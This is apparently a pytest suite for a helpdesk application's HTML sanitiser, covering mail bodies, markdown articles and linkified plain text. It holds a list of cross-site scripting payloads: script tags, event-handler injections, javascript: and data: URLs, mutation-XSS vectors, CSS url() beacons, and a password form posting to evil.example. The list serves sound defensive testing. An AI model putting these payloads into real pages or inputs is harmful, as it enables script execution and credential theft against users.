"""The sanitiser against hostile HTML: what comes out is parsed again, and nothing in it can run, load or post."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from shopdesk import html

HOSTILE = Path(__file__).resolve().parents[3] / "shared" / "data" / "security"
MAILS = Path(__file__).resolve().parents[3] / "shared" / "data" / "mail"

NEVER = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "svg", "math",
    "base", "link", "meta", "title", "noscript", "template", "frame", "frameset", "applet", "video", "audio", "source",
}  # fmt: skip

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' target=_blank onclick=alert(1)>x</a>",
    "<p style=\"background:url('http://evil.example/x')\">x</p>",
    "<p style='background-image:url(http://evil.example)'>x</p>",
    "<p style='color:red;background-color:u\\72l(http://evil.example)'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='list-style:url(http://evil.example)'>x</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=password><button>ok</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video src=http://evil.example/x poster=http://evil.example/y></video><audio src=x onerror=alert(1)>",
    "<table background='http://evil.example/x'><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<body onload=alert(1) background=http://evil.example/x>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x onclick=alert(1) style='position:fixed'>x</x>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=main name=getElementById class=btn>clobber</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<img srcset='http://evil.example/1.png 1x' src=x>",
    "<b>not closed <i>at all",
]  # fmt: skip


class Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def tags(markup):
    reader = Reader()
    reader.feed(markup)
    reader.close()
    return reader.tags


def assert_harmless(markup, *, schemes):
    for tag, attributes in tags(markup):
        assert tag not in NEVER
        for name, value in attributes.items():
            value = value or ""
            assert not name.startswith("on")
            assert name not in {"id", "name", "class", "srcset", "background", "action", "formaction", "target"}
            if name in {"href", "src"}:
                assert value.startswith(schemes), (tag, name, value)
            if name == "style":
                low = value.lower()
                assert "url" not in low
                assert "position" not in low
                assert "expression" not in low
                assert "z-index" not in low


MAIL_SCHEMES = ("http://", "https://", "mailto:", "tel:", "cid:", "data:image/png", "data:image/gif", "data:image/jpeg")
ARTICLE_SCHEMES = ("http://", "https://", "mailto:", "tel:", "/", "#")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_in_a_letter_is_harmless(payload):
    markup = html.sanitise_mail(payload)
    assert_harmless(markup, schemes=MAIL_SCHEMES)
    assert ' src="http' not in markup
    assert html.sanitise_mail(markup) == markup  # a second reading finds nothing new: no mutation


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_in_an_article_is_text(payload):
    assert_harmless(html.markdown(payload), schemes=ARTICLE_SCHEMES)
    assert_harmless(html.markdown(f"[x]({payload})\n\n![y]({payload})\n\n<{payload}>"), schemes=ARTICLE_SCHEMES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_in_plain_text_is_text(payload):
    markup = html.linkify_plain(payload)
    assert {tag for tag, _ in tags(markup)} <= {"a", "br"}
    assert_harmless(markup, schemes=("http://", "https://"))


@given(st.text(alphabet=st.sampled_from("<>\"'&/=! -abijmnorst:()[]#*_`\\\n"), max_size=60))
def test_any_text_is_harmless(source):
    assert_harmless(html.markdown(source), schemes=ARTICLE_SCHEMES)
    assert_harmless(html.sanitise_mail(source), schemes=MAIL_SCHEMES)
    assert_harmless(html.linkify_plain(source), schemes=("http://", "https://"))


def test_files_of_hostile_html():
    if not HOSTILE.is_dir():
        pytest.skip("no ../shared/data/security beside the checkout")
    files = sorted(path for path in HOSTILE.rglob("*") if path.is_file())
    assert files
    for path in files:
        source = path.read_text("utf-8", "replace").partition("\n--\n")[0]
        assert_harmless(html.sanitise_mail(source), schemes=MAIL_SCHEMES)
        assert_harmless(html.markdown(source), schemes=ARTICLE_SCHEMES)
        assert_harmless(html.linkify_plain(source), schemes=("http://", "https://"))


def test_real_letters():
    if not MAILS.is_dir():
        pytest.skip("no ../shared/data/mail beside the checkout")
    import email
    import email.policy
    import warnings

    seen = 0
    for path in sorted(MAILS.rglob("*")):
        if not path.is_file() or path.suffix in {".csv", ".json", ".md"}:
            continue
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            message = email.message_from_bytes(path.read_bytes(), policy=email.policy.compat32)
            bodies = [
                part.get_payload(decode=True) for part in message.walk() if part.get_content_type() == "text/html"
            ]
        for body in bodies:
            markup = html.sanitise_mail((body or b"").decode("utf-8", "replace"))
            assert_harmless(markup, schemes=MAIL_SCHEMES)
            seen += 1
    assert seen > 50


def test_a_letter_keeps_its_looks():
    source = (
        '<table width="600" style="border-collapse:collapse"><tr><td bgcolor="#fff" style="color:#333">'
        '<b>こんにちは</b><br><a href="https://shop.example/a?b=1&c=2">店</a><img src="cid:logo" alt="ロゴ"></td></tr></table>'
    )
    markup = html.sanitise_mail(source)
    assert 'href="https://shop.example/a?b=1&amp;c=2" rel="noopener nofollow"' in markup
    assert 'src="cid:logo"' in markup
    assert "color:#333" in markup
    assert "<b>こんにちは</b>" in markup


def test_plain_text_keeps_lines_and_links_addresses():
    markup = html.linkify_plain(
        "ご確認ください。\r\nhttps://shop.example/a?b=1&c=2をご覧ください。\n(http://a.example/x_(y))."
    )
    assert markup == (
        'ご確認ください。<br>\n<a href="https://shop.example/a?b=1&amp;c=2" rel="noopener nofollow">'
        "https://shop.example/a?b=1&amp;c=2</a>をご覧ください。<br>\n"
        '(<a href="http://a.example/x_(y)" rel="noopener nofollow">http://a.example/x_(y)</a>).'
    )
    assert html.linkify_plain("ftp://a.example javascript:alert(1) https://") == (
        "ftp://a.example javascript:alert(1) https://"
    )


def test_markdown_of_an_article():
    markup = html.markdown(
        "# 返品\n一行目\n二行目\n\n- [規約](/terms)\n- https://shop.example/x をご覧\n\n|a|b|\n|-|-|\n|1|2|"
    )
    assert "<h2>返品</h2>" in markup
    assert "一行目<br>" in markup
    assert '<a href="/terms" rel="noopener nofollow">規約</a>' in markup
    assert '<a href="https://shop.example/x" rel="noopener nofollow">https://shop.example/x</a> をご覧' in markup
    assert "<td>1</td>" in markup
    assert "<h1" not in markup


def test_an_address_that_is_a_link_already_is_not_linked_twice():
    markup = html.markdown("[https://shop.example/](https://shop.example/) と `https://code.example/`")
    assert markup.count("<a ") == 1


def test_text_of_markdown():
    assert html.markdown_text("# 返品\n**八日**以内に[連絡](/contact/)\n次の行\n\n- 一\n- 二\n\n![図](/x.png)") == (
        "返品\n八日以内に連絡\n次の行\n一\n二\n図"
    )


def test_filters():
    page = Template("{% load desk_html %}{{ a|plain }}|{{ b|markdown }}|{{ none|plain }}{{ none|markdown }}")
    assert page.render(Context({"a": "<b>\n", "b": "**太**", "none": None})) == (
        "&lt;b&gt;<br>\n|<p><strong>太</strong></p>\n|"
    )


def test_only_one_module_calls_anything_safe():
    root = Path(__file__).resolve().parents[2]
    guilty = [
        str(path.relative_to(root))
        for folder in ("shopdesk", "faq", "inquiries", "returns", "followups")
        for path in (root / folder).rglob("*.py")
        if "mark_safe" in path.read_text("utf-8") and path != root / "shopdesk" / "html.py"
    ]
    assert guilty == []
    pages = [str(page.relative_to(root)) for page in (root / "templates").rglob("*") if page.is_file()
             and ("|safe" in page.read_text("utf-8") or ("autoescape off" in page.read_text("utf-8") and page.suffix == ".html"))]  # fmt: skip
    assert pages == []


def test_payloads_are_plain_json():
    """The list is also used by browser tests, which hand it to JavaScript."""
    assert len(json.loads(json.dumps(PAYLOADS))) >= 40


def test_a_remote_picture_is_set_aside_and_comes_back_only_when_asked_for():
    markup = html.sanitise_mail("<p>x<IMG width=1 SRC='https://evil.example/a.png?b=1&c' onerror=alert(1)></p>")
    assert markup == '<p>x<img width="1" data-remote="https://evil.example/a.png?b=1&amp;c"></p>'
    assert html.with_remote_pictures(markup) == '<p>x<img width="1" src="https://evil.example/a.png?b=1&amp;c"></p>'


@pytest.mark.parametrize(
    "source",
    [
        "<img data-remote='javascript:alert(1)'>",
        "<img data-remote='data:text/html,x'>",
        "<img src='javascript:alert(1)' data-remote='//evil.example/x'>",
        "<p data-remote='https://evil.example'>x</p>",
    ],
)
def test_nothing_else_is_set_aside(source):
    assert "data-remote" not in html.sanitise_mail(source)
